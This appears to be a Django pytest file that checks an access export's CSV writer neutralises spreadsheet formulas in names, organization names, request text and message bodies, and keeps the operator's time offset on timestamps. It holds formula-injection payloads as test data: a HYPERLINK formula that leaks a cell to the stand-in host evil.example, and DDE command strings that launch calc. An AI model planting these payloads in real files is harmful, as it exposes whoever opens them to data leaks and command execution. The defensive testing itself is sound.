"""The CSV files of an access export are written by the project's one CSV writer: a cell a spreadsheet would run
as a formula (a name, an organization name, request text, a message body) is neutralised, and times carry the
operator's offset."""

import csv
import io

import pytest

from accounts.models import Membership, Organization
from accounts.roles import Role
from privacy.data.models import SubjectKind
from tests.privacy.data_helpers import ALICE_PHONE, make_message, make_request, private_root  # noqa: F401
from tests.privacy.test_export import _archive, _build, csv_tables

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("private_root")]

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
COMMAND = "=cmd|' /C calc'!A0"
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"


def _rows(archive: dict[str, bytes], name: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(archive[name].decode())))


def test_formula_cells_are_neutralised_and_times_carry_the_operator_offset(django_capture_on_commit_callbacks, owner_a):
    owner_a.full_name = HYPERLINK
    owner_a.phone_number = ALICE_PHONE
    owner_a.save()
    evil = Organization.objects.create(name=COMMAND, slug="evil")
    Membership.objects.create(user=owner_a, organization=evil, role=Role.OWNER)
    make_message(evil, ALICE_PHONE, HYPERLINK)
    make_request(user=owner_a, details=AT_FORMULA)

    export = _build(
        django_capture_on_commit_callbacks,
        subject_kind=SubjectKind.USER,
        user=owner_a,
        email=owner_a.email,
        phone_number=ALICE_PHONE,
    )
    archive = _archive(export, owner_a)
    cells = [cell for name in archive if name.endswith(".csv") for row in _rows(archive, name) for cell in row]

    for dangerous in (HYPERLINK, COMMAND, AT_FORMULA):
        assert dangerous not in cells, dangerous  # never a bare formula
        assert "'" + dangerous in cells, dangerous  # but still there, as text
    assert not [cell for cell in cells if cell[:1] in ("=", "@")]

    users = csv_tables(archive, "personal_information")["personal_information/accounts.User.csv"]
    assert [(row["record_id"], row["full_name"]) for row in users] == [(str(owner_a.pk), "'" + HYPERLINK)]
    messages = csv_tables(archive, "usage_data")["usage_data/messaging.Message.csv"]
    assert [row["body"] for row in messages] == ["'" + HYPERLINK]
    times = [row["created_at"] for row in messages]
    assert times and all(value.endswith("+08:00") for value in times), times
